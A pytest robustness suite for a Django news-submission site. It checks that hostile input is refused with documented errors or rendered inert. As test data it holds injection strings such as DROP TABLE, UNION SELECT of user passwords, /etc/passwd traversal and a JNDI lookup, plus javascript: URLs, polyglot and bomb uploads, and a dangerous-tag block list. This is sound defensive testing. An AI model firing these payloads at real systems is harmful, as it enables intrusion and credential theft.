"""Attack corpora through the public API: every hostile input gets a documented 4xx or is stored and served
inert — never a 500, never executable markup in a page, feed or API answer.

- XSS: the whole XSS corpus of the renderer's tests goes into every field that reaches HTML — title, lead,
  body, tags, place, sources, image caption and credit, display name, pen name, bio — of an article that is then
  published; every reader page, feed and API answer that shows it is parsed and checked.
- SQL-ish and path-traversal strings in every filter of every list, search and page.
- Uploads: the upload corpus through both upload endpoints (article images and avatars).
- Request bodies: oversized, deeply nested, invalid UTF-8, wrong content types.
Counts of what was tried go to the robustness figures (tests/robustness/conftest.py).
"""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import piexif
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from submissions import workflow
from submissions.models import Article, Media
from submissions.states import Status
from tests.conftest import error_code
from tests.factories import ArticleFactory, EditorFactory, UserFactory
from tests.robustness.conftest import count
from tests.submissions.test_media import (
    SVG,
    bomb_png,
    camera_jpeg,
    encode,
    handmade_png,
    html_in_jpeg_comment,
    over_our_limit_png,
    polyglot_jpeg,
    small_jpeg,
    truncated_jpeg,
    two_colour_image,
)
from tests.submissions.test_rendering import XSS_CORPUS, assert_not_executable

pytestmark = pytest.mark.django_db

DOCUMENTED_CODES = set(re.findall(r"\| \d{3} \| `([a-z_]+)` \|", Path("docs/errors.md").read_text()))

# Elements and URL schemes no user input may ever produce in a page
DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "base", "frame", "frameset", "applet", "svg", "math"}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "poster",
    "data",
    "srcset",
    "xlink:href",
    "background",
}
URL_JUNK = re.compile(r"[\x00-\x20\x7f-\x9f]+")
SAFE_URL = re.compile(r"^(https?:|mailto:|/|#|\?|[a-z0-9][a-z0-9._~/-]*$)", re.IGNORECASE)


def assert_documented_refusal(response: Any) -> None:
    """A 4xx in the error envelope with a code from docs/errors.md."""
    assert 400 <= response.status_code < 500, (response.status_code, response.content[:300])
    code = error_code(response)
    assert code in DOCUMENTED_CODES, f"undocumented error code {code!r}"


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def _the_sites_own_script(attrs: list[tuple[str, str | None]]) -> bool:
    """A script file of the site's own static files (htmx, the studio's editor.js): a src under STATIC_URL and
    nothing else that could run; the CSP allows no other script."""
    names = dict(attrs)
    return set(names) <= {"src", "defer", "type"} and (names.get("src") or "").startswith("/static/")


def assert_inert_page(html: str, where: str) -> None:
    """A whole page (the site's own markup plus user content): nothing that runs."""
    parser = _Elements()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.elements:
        if tag == "script" and _the_sites_own_script(attrs):
            continue
        assert tag not in DANGEROUS_TAGS, f"<{tag}> in {where}"
        for name, value in attrs:
            assert not name.startswith("on"), f"{name}= on <{tag}> in {where}"
            assert name != "style", f"style= on <{tag}> in {where}"
            if name in URL_ATTRIBUTES and value:
                for url in value.split(",") if name == "srcset" else [value]:
                    cleaned = URL_JUNK.sub("", url.strip().split(" ")[0])
                    assert SAFE_URL.match(cleaned), f"{name}={value!r} on <{tag}> in {where}"


def assert_inert_xml(text: str, where: str) -> None:
    """A feed: well-formed XML, and every element that carries HTML (RSS description and content:encoded, Atom
    text constructs of type html) is inert once unescaped. Plain-text elements (RSS title) are text by spec."""
    # our own feed, not untrusted XML; raises on a broken document (e.g. a control character let through)
    root = ET.fromstring(text.encode())  # noqa: S314
    for element in root.iter():
        name = element.tag.rsplit("}", 1)[-1]
        if name in ("description", "encoded") or element.attrib.get("type") == "html":
            assert_inert_page(element.text or "", f"{where} <{name}>")
        for value in element.attrib.values():
            cleaned = URL_JUNK.sub("", value).lower()
            assert not cleaned.startswith(("javascript:", "vbscript:", "data:")), f"{value!r} in {where}"


# --- XSS -------------------------------------------------------------------------------------------------------


def _vectors(n: int) -> list[str]:
    """n distinct vectors from the corpus, cycling through all of it."""
    return [XSS_CORPUS[i % len(XSS_CORPUS)] for i in range(n)]


@pytest.fixture
def hostile(api, settings, tmp_path, commit):
    """Publishes one article per slice of the corpus, every HTML-reaching field hostile; returns the articles."""
    settings.MEDIA_ROOT = tmp_path / "media"
    editor = EditorFactory()
    articles = []
    for start in range(0, len(XSS_CORPUS), 6):
        chunk = XSS_CORPUS[start : start + 6] + _vectors(6)[: max(0, 6 - len(XSS_CORPUS[start:]))]
        # NUL is refused outright (null_characters_not_allowed, tested below); the rest of the vector goes in
        chunk = [vector.replace("\x00", "") for vector in chunk]
        author = UserFactory(trust_level=3)
        client = api(author)
        me = client.patch(
            "/api/v1/me/",
            {"display_name": "Автор " + chunk[0][:70], "pen_name": chunk[1][:80], "bio": chunk[2]},
            format="json",
        )
        assert me.status_code in (200, 400), me.content
        if me.status_code == 400:
            assert_documented_refusal(me)
        created = client.post(
            "/api/v1/articles/",
            {
                "title": ("Новость " + chunk[3])[:200],
                "lead": chunk[4][:600],
                "body": "Жители района собрались у здания администрации.\n\n" + "\n\n".join(chunk),
                "category": "city",
                "language": "ru",
                "place_name": chunk[5][:100],
                "region": "center",
                "tags": [chunk[1][:40], chunk[2][:40]],
                "has_third_party_material": True,
                "rights_confirmed": True,
                "sources": [{"kind": "document", "description": chunk[3][:500]}],
            },
            format="json",
        )
        assert created.status_code == 201, created.json()
        article_id = created.json()["id"]
        upload = SimpleUploadedFile("p.jpg", small_jpeg(), content_type="image/jpeg")
        media = client.post(
            f"/api/v1/articles/{article_id}/media/",
            {"file": upload, "caption": chunk[4][:300], "credit": chunk[5][:200]},
            format="multipart",
        )
        assert media.status_code == 201, media.content
        count("xss vectors placed", len(chunk) + 6)
        with commit():
            workflow.article_submit(actor=author, article_id=article_id)
        with commit():
            workflow.article_approve(actor=editor, article_id=article_id)
        article = Article.objects.get(pk=article_id)
        assert article.status == Status.PUBLISHED, article.status
        articles.append(article)
    return articles


def test_the_xss_corpus_in_every_field_is_inert_in_every_page_feed_and_answer(hostile, client: Client):
    pages = ["/", "/search/?q=Новость", "/category/city/", "/sitemap.xml"]
    for article in hostile:
        pages += [f"/news/{article.slug}/", f"/authors/{article.author_id}/"]
    for path in pages:
        response = client.get(path)
        assert response.status_code == 200, path
        if path.endswith(".xml"):
            assert_inert_xml(response.content.decode(), path)
        else:
            assert_inert_page(response.content.decode(), path)
        count("xss pages checked")
    feeds = ["/feed/rss/", "/feed/atom/", "/feed/rss/category/city/", "/feed/atom/category/city/"]
    for article in hostile:
        feeds += [f"/feed/rss/author/{article.author_id}/", f"/feed/atom/author/{article.author_id}/"]
    for path in feeds:
        response = client.get(path)
        assert response.status_code == 200, path
        assert_inert_xml(response.content.decode(), path)
        count("xss feeds checked")
    json_feed = client.get("/feed/json/").json()
    for item in json_feed["items"]:
        assert_not_executable(item["content_html"])
    for article in hostile:
        body = client.get(f"/api/v1/feed/{article.slug}/").json()
        assert_not_executable(body["body_html"])
        count("xss api answers checked")
    # stored: every rendered body is already sanitised in the database (revisions keep Markdown, not HTML)
    for html in Article.objects.values_list("body_html", flat=True):
        assert_not_executable(html)


def test_nul_characters_are_refused_in_every_text_field(api, contributor):
    for field in ("title", "lead", "body", "place_name"):
        response = api(contributor).post("/api/v1/articles/", {field: "a\x00<script>"}, format="json")
        assert_documented_refusal(response)
        count("xss vectors refused")
    response = api(contributor).patch("/api/v1/me/", {"bio": "a\x00b"}, format="json")
    assert_documented_refusal(response)
    assert not Article.objects.exists()


def test_a_javascript_source_url_is_refused_with_a_documented_code(api, contributor):
    for url in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
    ]:
        response = api(contributor).post(
            "/api/v1/articles/",
            {"title": "t", "sources": [{"kind": "document", "url": url}]},
            format="json",
        )
        assert_documented_refusal(response)
        count("xss vectors refused")
    assert not Article.objects.exists()


# --- SQL-ish and path traversal in filters ----------------------------------------------------------------------

INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE submissions_article; --",
    "1 OR 1=1",
    "1; SELECT pg_sleep(5)",
    '" OR ""="',
    "%' AND 1=0 UNION SELECT email, password FROM accounts_user --",
    "\\'; --",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "%00",
    "\x00",
    "${jndi:ldap://x.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "-1",
    "99999999999999999999999999",
    "²",  # a Unicode digit: str.isdigit() says yes, int() says no
    "１２",  # fullwidth digits
    "NaN",
    "[]",
    "{}",
    "ы" * 3000,
]

FILTERS = {
    "/api/v1/feed/": [
        "category",
        "tag",
        "region",
        "author",
        "language",
        "q",
        "page_size",
        "cursor",
        "offset",
    ],
    "/api/v1/articles/": ["status", "limit", "offset"],
    "/api/v1/moderation/queue/": [
        "scope",
        "state",
        "language",
        "detected_language",
        "category",
        "region",
        "claimed",
        "overdue",
        "appeal",
        "limit",
        "offset",
    ],
    "/api/v1/moderation/audit/": ["kind", "action", "actor", "article", "since", "until", "cursor"],
    "/api/v1/moderation/stats/": ["days"],
    "/api/v1/notifications/": ["unread", "limit", "offset"],
    "/search/": ["q", "page"],
    "/": ["page"],
    "/category/city/": ["page"],
}


@pytest.fixture
def published(commit):
    editor = EditorFactory()
    article = ArticleFactory(author=UserFactory(trust_level=3))
    with commit():
        workflow.article_submit(actor=article.author, article_id=article.pk)
    with commit():
        workflow.article_approve(actor=editor, article_id=article.pk)
    return Article.objects.get(pk=article.pk)


def test_injection_strings_in_every_filter_get_a_documented_answer_and_leak_nothing(api, published):
    chief = api(UserFactory(role="chief_editor"))
    total = Article.objects.count()
    for path, names in FILTERS.items():
        for name in names:
            for value in INJECTIONS:
                response = chief.get(path, {name: value})
                count("filter injections tried")
                assert response.status_code < 500, (path, name, value)
                if response.status_code >= 400:
                    if path.startswith("/api/"):
                        assert_documented_refusal(response)
                elif path.startswith("/api/") and "results" in response.json():
                    # a filter that matched nothing real must not widen the result set
                    assert len(response.json()["results"]) <= total, (path, name, value)
    assert Article.objects.count() == total


@pytest.mark.parametrize(
    "path",
    [
        "/media/../newsroom/settings.py",
        "/media/%2e%2e/%2e%2e/etc/passwd",
        "/media/..%2f..%2fetc%2fpasswd",
        "/media/avatars/../../manage.py",
        "/media//etc/passwd",
        "/media/%00.jpg",
        "/news/..%2f..%2fadmin/",
        "/category/..%2f..%2fetc/",
        "/api/v1/feed/..%2f..%2fsettings/",
        "/api/v1/articles/1%20OR%201=1/",
        "/api/v1/articles/-1/",
        "/api/v1/articles/99999999999999999999999/",
    ],
)
def test_path_traversal_finds_nothing(client: Client, published, path):
    response = client.get(path)
    count("path traversals tried")
    assert response.status_code in (400, 401, 404), (path, response.status_code)
    assert b"SECRET_KEY" not in response.content and b"root:" not in response.content
    if path.startswith("/api/"):
        assert_documented_refusal(response)


# --- uploads ---------------------------------------------------------------------------------------------------


def huge_dimension_jpeg() -> bytes:
    """A real JPEG whose header claims 65000×65000 pixels (the SOF0 size fields rewritten)."""
    data = bytearray(small_jpeg())
    marker = data.index(b"\xff\xc0")
    data[marker + 5 : marker + 9] = (65000).to_bytes(2, "big") + (65000).to_bytes(2, "big")
    return bytes(data)


def pdf_jpeg_polyglot() -> bytes:
    return b"%PDF-1.4\n%" + small_jpeg() + b"\n1 0 obj<</JS(app.alert(1))>>endobj\n%%EOF"


def zip_after_png() -> bytes:
    return (
        encode(two_colour_image(), "PNG")
        + b"PK\x03\x04"
        + b"\x00" * 26
        + b"evil.html<script>alert(1)</script>"
    )


UPLOAD_CORPUS = [
    ("decompression-bomb", bomb_png, "bomb.png", "image/png", 413, "image_too_large"),
    ("over-max-pixels", over_our_limit_png, "huge.png", "image/png", 413, "image_too_large"),
    ("huge-dimension-header", huge_dimension_jpeg, "big.jpg", "image/jpeg", 413, "image_too_large"),
    ("svg-with-script", lambda: SVG, "logo.svg", "image/svg+xml", 400, "svg_not_allowed"),
    ("svg-renamed-jpg", lambda: SVG, "logo.jpg", "image/jpeg", 400, "svg_not_allowed"),
    ("html-polyglot", polyglot_jpeg, "p.jpg", "image/jpeg", 400, "polyglot_file"),
    ("html-in-comment", html_in_jpeg_comment, "p.jpg", "image/jpeg", 400, "polyglot_file"),
    ("pdf-polyglot", pdf_jpeg_polyglot, "p.jpg", "image/jpeg", 400, "unsupported_file"),
    ("zip-after-png", zip_after_png, "p.png", "image/png", 400, "polyglot_file"),
    ("truncated", truncated_jpeg, "half.jpg", "image/jpeg", 400, "image_truncated"),
    (
        "gif-renamed-jpg",
        lambda: encode(two_colour_image(), "GIF"),
        "a.jpg",
        "image/jpeg",
        400,
        "unsupported_image_format",
    ),
    (
        "tiff-renamed-png",
        lambda: encode(two_colour_image(), "TIFF"),
        "a.png",
        "image/png",
        400,
        "unsupported_image_format",
    ),
    (
        "exe-renamed-jpg",
        lambda: b"MZ\x90\x00" + b"\x00" * 2000,
        "a.jpg",
        "image/jpeg",
        400,
        "unsupported_file",
    ),
    (
        "html-renamed-png",
        lambda: b"<html><script>alert(1)</script></html>",
        "a.png",
        "image/png",
        400,
        "unsupported_file",
    ),
    ("zero-width", lambda: handmade_png(0, 10, []), "z.png", "image/png", 400, None),
]


def _upload(client: Any, kind: str, article_id: int, name: str, data: bytes, content_type: str) -> Any:
    upload = SimpleUploadedFile(name, data, content_type=content_type)
    if kind == "article":
        return client.post(f"/api/v1/articles/{article_id}/media/", {"file": upload}, format="multipart")
    return client.put("/api/v1/me/avatar/", {"avatar": upload}, format="multipart")


def _files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


@pytest.mark.parametrize("kind", ["article", "avatar"])
@pytest.mark.parametrize(
    ("label", "make", "name", "content_type", "status", "code"),
    UPLOAD_CORPUS,
    ids=[c[0] for c in UPLOAD_CORPUS],
)
def test_the_upload_corpus_is_refused_with_its_code_through_both_endpoints(
    api, contributor, settings, tmp_path, kind, label, make, name, content_type, status, code
):
    settings.MEDIA_ROOT = tmp_path / "media"
    article = ArticleFactory(author=contributor)
    response = _upload(api(contributor), kind, article.pk, name, make(), content_type)
    count("hostile uploads tried")
    assert response.status_code == status, (label, response.status_code, response.content[:300])
    assert_documented_refusal(response)
    if code:
        assert error_code(response) == code, (label, response.json())
    assert _files(Path(settings.MEDIA_ROOT)) == [], label
    assert not Media.objects.exists()
    contributor.refresh_from_db()
    assert not contributor.avatar


@pytest.mark.parametrize("kind", ["article", "avatar"])
def test_a_gps_tagged_photo_is_accepted_without_its_position(api, contributor, settings, tmp_path, kind):
    settings.MEDIA_ROOT = tmp_path / "media"
    article = ArticleFactory(author=contributor)
    response = _upload(api(contributor), kind, article.pk, "gps.jpg", camera_jpeg((800, 600)), "image/jpeg")
    count("hostile uploads tried")
    assert response.status_code in (200, 201), response.content
    stored = _files(Path(settings.MEDIA_ROOT))
    assert stored
    for path in stored:
        data = path.read_bytes()
        assert b"SpyCam" not in data
        if data.startswith(b"\xff\xd8"):
            assert piexif.load(data)["GPS"] == {}


# --- request bodies --------------------------------------------------------------------------------------------


def test_an_oversized_json_body_is_413_and_nothing_is_stored(api, contributor, settings):
    limit = settings.DATA_UPLOAD_MAX_MEMORY_SIZE or 2_621_440
    body = json.dumps({"title": "t", "body": "ы" * limit})
    response = api(contributor).generic("POST", "/api/v1/articles/", body, content_type="application/json")
    count("malformed bodies tried")
    assert response.status_code == 413, response.content[:300]
    assert_documented_refusal(response)
    assert not Article.objects.exists()


@pytest.mark.parametrize("depth", [64, 1000, 100_000])
def test_deeply_nested_json_is_a_400_not_a_crash(api, contributor, depth):
    for shape in ("[" * depth + "]" * depth, '{"a":' * depth + "1" + "}" * depth):
        body = '{"title": "t", "tags": ' + shape + "}"
        response = api(contributor).generic(
            "POST", "/api/v1/articles/", body, content_type="application/json"
        )
        count("malformed bodies tried")
        assert_documented_refusal(response)
    assert not Article.objects.exists()


@pytest.mark.parametrize(
    "body",
    [
        # a slug lookup: PostgreSQL refused it with a DataError (500)
        {"title": "t", "category": "city\u0000"},
        {"title": "t", "tags": ["\u0000"]},
        {"title": "t", "sources": [{"kind": "document", "description": "a\u0000b"}]},
        {"title": "t", "x\u0000": 1},  # even in a key no serializer reads
    ],
)
def test_a_nul_character_anywhere_in_a_json_body_is_a_400(api, contributor, body):
    response = api(contributor).post("/api/v1/articles/", body, format="json")
    count("malformed bodies tried")
    assert response.status_code == 400, response.content[:300]
    assert_documented_refusal(response)
    assert not Article.objects.exists()


@pytest.mark.parametrize(
    "raw",
    [
        b'{"title": "\xff\xfe invalid"}',
        b'{"title": "\xc3\x28"}',
        b'{"title": "\xed\xa0\x80 surrogate"}',
        b'{"title": "\\ud800 lone surrogate escape"}',
        b'\xef\xbb\xbf{"title": "bom"}',
        b'{"title": "t"',
        b"",
        b"null",
        b"[]",
        b'"string"',
        b"NaN",
        b'{"title": Infinity}',
    ],
)
def test_invalid_utf8_and_broken_json_get_documented_refusals(api, contributor, raw):
    response = api(contributor).generic("POST", "/api/v1/articles/", raw, content_type="application/json")
    count("malformed bodies tried")
    assert response.status_code < 500, (raw, response.content[:300])
    if response.status_code >= 400:
        assert_documented_refusal(response)
    else:  # accepted: then what was stored is valid text
        article = Article.objects.get(pk=response.json()["id"])
        article.title.encode("utf-8")


@pytest.mark.parametrize(
    ("path", "query"),
    [
        ("/api/v1/feed/", "q=%ff%fe"),
        ("/api/v1/feed/", "category=%c3%28"),
        ("/search/", "q=%ed%a0%80"),
        ("/api/v1/feed/%ff/", ""),
        ("/news/%c3%28/", ""),
    ],
)
def test_invalid_utf8_in_urls_is_never_a_server_error(client: Client, path, query):
    response = client.get(path, QUERY_STRING=query)
    count("malformed bodies tried")
    assert response.status_code < 500, (path, query, response.status_code)


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("text/plain", b"title=t"),
        ("application/xml", b"<article><title>t</title></article>"),
        ("application/x-www-form-urlencoded", b"title=" + b"a" * 100),
        ("multipart/form-data; boundary=x", b"--x\r\nbroken"),
        ("application/json; charset=latin-1", b'{"title": "\xe9t\xe9"}'),
    ],
)
def test_unexpected_content_types_are_refused_with_a_code(api, contributor, content_type, body):
    response = api(contributor).generic("POST", "/api/v1/articles/", body, content_type=content_type)
    count("malformed bodies tried")
    assert response.status_code < 500, response.content[:300]
    if response.status_code >= 400:
        assert_documented_refusal(response)


# --- the same corpora through the site's own forms ----------------------------------------------------------------


def test_the_xss_corpus_is_inert_in_the_studio_and_account_pages(hostile, client: Client):
    """The hostile articles as their authors see them in the studio (list, page, timeline, notifications) and on
    their profile, and a hostile draft in the editor's own form."""
    for article in hostile:
        client.force_login(article.author)
        for path in ("/studio/", f"/studio/{article.pk}/", f"/studio/{article.pk}/timeline/", "/account/"):
            response = client.get(path)
            assert response.status_code == 200, path
            assert_inert_page(response.content.decode(), path)
            count("xss pages checked")
    author = hostile[0].author
    client.force_login(author)
    chunk = [vector.replace("\x00", "") for vector in _vectors(6)]
    typed = {
        "action": "save",
        "title": chunk[0][:200],
        "lead": chunk[1][:600],
        "body": "\n\n".join(chunk),
        "place_name": chunk[2][:120],
        "tags": chunk[3][:40],
        "sources-TOTAL": "1",
        "sources-0-kind": "document",
        "sources-0-description": chunk[4][:500],
    }
    saved = client.post("/studio/new/", typed, follow=True)
    assert saved.status_code in (200, 400), saved.status_code  # saved, or refused with the text kept
    assert_inert_page(saved.content.decode(), "/studio/new/ (saved)")
    preview = client.post("/studio/preview/", {"title": chunk[0], "lead": chunk[1], "body": typed["body"]})
    assert preview.status_code == 200
    assert_inert_page(preview.content.decode(), "/studio/preview/")
    count("xss vectors placed", len(chunk))
    count("xss pages checked", 2)


@pytest.mark.parametrize("kind", ["studio", "profile"])
@pytest.mark.parametrize(
    ("label", "make", "name", "content_type", "status", "code"),
    UPLOAD_CORPUS,
    ids=[c[0] for c in UPLOAD_CORPUS],
)
def test_the_upload_corpus_is_refused_through_the_sites_forms(
    client: Client, contributor, settings, tmp_path, kind, label, make, name, content_type, status, code
):
    """The photo field of the studio's editor and the avatar field of the profile: each hostile file is refused
    with its message on the page, and nothing is stored."""
    settings.MEDIA_ROOT = tmp_path / "media"
    article = ArticleFactory(author=contributor)
    client.force_login(contributor)
    upload = SimpleUploadedFile(name, make(), content_type=content_type)
    if kind == "studio":
        data = {"action": "upload", "version": str(article.version), "title": article.title, "file": upload}
        response = client.post(f"/studio/{article.pk}/", data, follow=True)
    else:
        response = client.post("/account/", {"action": "avatar", "avatar": upload}, follow=True)
    count("hostile uploads tried")
    page = unescape(response.content.decode())
    if kind == "studio":  # the upload report names the file and says it was not taken
        assert response.status_code == 200 and f"{name}: не загружено." in page, label
    else:  # the error under the avatar field
        assert response.status_code in (400, 413) and 'id="id_avatar_error"' in page, label
    assert _files(Path(settings.MEDIA_ROOT)) == [], label
    assert not Media.objects.exists()
    contributor.refresh_from_db()
    assert not contributor.avatar
